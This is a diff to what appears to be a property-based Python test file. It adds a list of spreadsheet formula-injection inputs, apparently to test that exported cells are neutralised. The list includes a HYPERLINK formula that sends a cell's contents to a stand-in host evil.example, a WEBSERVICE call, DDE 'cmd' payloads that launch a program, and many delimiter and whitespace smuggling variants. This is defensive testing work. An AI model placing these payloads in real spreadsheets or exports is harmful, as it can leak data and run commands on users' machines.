@@ -114,6 +114,33 @@ HOSTILE = (
     "",
     " ",
 )
+# What else has been a formula somewhere, in a cell or behind what ends one.
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    '=WEBSERVICE("http://evil.example/")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "{=1+1}",
+    '"=1+1',
+    "'=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\r\n=1+1",
+    " =1+1",
+    "＝1+1",
+    "a;=1+1;b",
+    "a\t=1+1\tb",
+    "a\n=1+1;b",
+    "x\r\n=1+1;=2+2",
+    '";=1+1',
+    '"\t=1+1',
+    '";"=1+1;',
+    "a;'=1+1;b",
+    "a; \ufeff=1+1;b",
+)
 
 any_text = st.one_of(
     st.sampled_from(HOSTILE),
